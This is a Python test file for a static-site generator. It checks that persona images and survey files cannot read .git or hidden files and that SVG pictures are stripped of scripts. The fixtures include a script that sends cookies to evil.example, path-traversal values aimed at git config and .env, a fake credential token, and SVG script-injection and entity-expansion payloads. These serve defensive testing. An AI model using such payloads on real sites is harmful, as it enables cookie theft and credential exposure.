"""Persona pictures and responses files that name what they should not (issue 22, items 3,
4 and 10): a page, git's own files, an SVG with scripts. Pictures are judged by their
bytes and published under a name cjmsite chooses; nothing under `.git/` is ever read as
content, a picture or responses; SVG pictures are sanitised."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from conftest import build_fails, parse_html, run, write_files

TOKEN = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA=="
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff"
       b"\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82")
EVIL_PAGE = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"


def _persona(image: str) -> dict[str, str]:
    return {"content/personas/ana.md": f"---\nname: Ana Persona\nimage: {image}\n---\n"}


def _published(site: Path) -> bytes:
    out = site / "output"
    return b"".join(p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()) \
        if out.is_dir() else b""


@pytest.fixture
def repo(make_site) -> Path:
    """A project in a git repository whose .git/config holds what a CI checkout leaves."""
    site = make_site()
    subprocess.run(["git", "init", "-q", str(site)], check=True)
    with open(site / ".git/config", "a", encoding="utf-8") as config:
        config.write(f'[http "https://github.com/"]\n\textraheader = {TOKEN}\n')
    return site


def test_a_picture_that_is_a_page_does_not_replace_the_page(make_site) -> None:
    """The issue's attack: `image: evil/index.html` was copied over the persona's page."""
    site = make_site({**_persona("evil/index.html"),
                      "content/personas/evil/index.html": EVIL_PAGE})
    output = build_fails(site, "content/personas/ana.md:3: error: image 'evil/index.html' "
                               "is not a PNG, JPEG, GIF, WebP, AVIF or SVG picture")
    assert "evil.example" not in output
    assert b"evil.example" not in _published(site)


@pytest.mark.parametrize("name", ["index.html", "evil/index.html", "picture.svg"])
def test_a_real_picture_is_published_under_a_name_cjmsite_chooses(make_site,
                                                                  name: str) -> None:
    """A true PNG named like the page still lands beside it, as picture.png."""
    site = make_site({**_persona(name), f"content/personas/{name}": PNG})
    result = run("build", str(site))
    assert result.exit_code == 0, result.output
    folder = site / "output/personas/ana"
    assert (folder / "picture.png").read_bytes() == PNG
    page = parse_html(folder / "index.html")
    assert page.xpath("//img[@class='avatar']/@src") == ["picture.png"]
    assert "Ana Persona" in (folder / "index.html").read_text(encoding="utf-8")
    assert sorted(p.name for p in folder.iterdir()) == ["index.html", "picture.png"]


@pytest.mark.parametrize("image", ["../../.git/config", "../../.GIT/config",
                                   "../../sub/.git/config"])
def test_git_files_are_never_published_as_a_picture(repo: Path, image: str) -> None:
    (repo / "sub/.git").mkdir(parents=True)
    (repo / "sub/.git/config").write_text(f"[x]\n\textraheader = {TOKEN}\n")
    write_files(repo, _persona(image))
    if image.startswith("../../.GIT"):
        (repo / ".GIT").symlink_to(repo / ".git")
    output = build_fails(repo, f"content/personas/ana.md:3: error: image '{image}' is "
                               "inside a .git folder")
    assert "extraheader" not in output and TOKEN not in output
    assert TOKEN.encode() not in _published(repo)


def test_a_symlink_into_git_is_refused_too(repo: Path) -> None:
    write_files(repo, _persona("face.png"))
    (repo / "content/personas/face.png").symlink_to(repo / ".git/config")
    (repo / "content/journeys/buy/02-link.md").symlink_to(repo / ".git/description")
    (repo / "content/linked").symlink_to(repo / ".git")
    output = build_fails(repo, "content/personas/ana.md:3: error: image 'face.png' is inside "
                               "a .git folder")
    assert "02-link.md:1: error: 02-link.md is inside a .git folder" in output
    assert "content/linked:1: error: linked is inside a .git folder" in output
    assert TOKEN not in output


def test_hidden_files_are_not_pictures(make_site) -> None:
    site = make_site({**_persona("../../.env"), ".env": "API_KEY=secret\n"})
    output = build_fails(site, "content/personas/ana.md:3: error: image '../../.env' is a "
                               "hidden file or lies in a hidden folder")
    assert "API_KEY" not in output


SURVEY = {
    "content/surveys/nps.md": "---\ntitle: NPS\nmetric: nps\njourney: buy\n"
                              "file: ../../.git/config\ncolumns: {score: '[core]'}\n---\n",
}


def test_git_config_is_never_read_as_responses(repo: Path) -> None:
    """The issue's attack: each config line came back as a "not a number" warning."""
    write_files(repo, SURVEY)
    result = run("build", str(repo))
    assert result.exit_code == 1, result.output
    assert "content/surveys/nps.md:5: error: responses file 'config' is inside a .git " \
           "folder" in result.output, result.output
    for secret in ("extraheader", "repositoryformatversion", TOKEN):
        assert secret not in result.output


def test_git_files_reached_through_a_link_are_not_responses(repo: Path) -> None:
    write_files(repo, {"content/surveys/nps.md": SURVEY["content/surveys/nps.md"].replace(
        "../../.git/config", "answers.csv")})
    (repo / "content/surveys/answers.csv").symlink_to(repo / ".git/config")
    result = run("build", str(repo))
    assert result.exit_code == 1
    assert "is inside a .git folder" in result.output, result.output
    assert "extraheader" not in result.output and TOKEN not in result.output


SVG = """<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 10 10" onload="alert(1)">
  <script>alert(document.domain)</script>
  <circle cx="5" cy="5" r="4" fill="#1d4ed8" onclick="alert(2)"/>
  <a xlink:href="javascript:alert(3)"><rect width="2" height="2"/></a>
  <foreignObject><div xmlns="http://www.w3.org/1999/xhtml" onmouseover="alert(4)">x</div>
  </foreignObject>
  <image href="https://evil.example/track.png" width="1" height="1"/>
  <style>@import url(https://evil.example/x.css);</style>
</svg>
"""


def test_an_svg_picture_is_published_without_its_scripts(make_site) -> None:
    site = make_site({**_persona("ana.svg"), "content/personas/ana.svg": SVG})
    result = run("build", str(site))
    assert result.exit_code == 0, result.output
    published = (site / "output/personas/ana/picture.svg").read_text(encoding="utf-8")
    assert "<circle" in published and 'fill="#1d4ed8"' in published
    for bad in ("script", "alert", "onload", "onclick", "javascript:", "foreignObject",
                'href="http', "url(http", "@import", "DOCTYPE"):
        assert bad not in published, (bad, published)  # nothing loads from another site


@pytest.mark.parametrize(("svg", "message"), [
    # Entities that expand (a billion laughs, smaller).
    ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
     '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>', "is not an SVG"),
    # A script link that only an animation would set.
    ('<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
     'to="javascript:alert(5)"/><text>x</text></a></svg>', "holds a javascript: link"),
    # An HTML page that mentions <svg>.
    ("<!--<svg>--><html><body><script>alert(1)</script></body></html>", "is not an SVG"),
])
def test_svgs_that_are_not_plain_drawings_are_refused(make_site, svg: str,
                                                      message: str) -> None:
    site = make_site({**_persona("ana.svg"), "content/personas/ana.svg": svg})
    build_fails(site, f"content/personas/ana.md:3: error: image 'ana.svg' {message}")
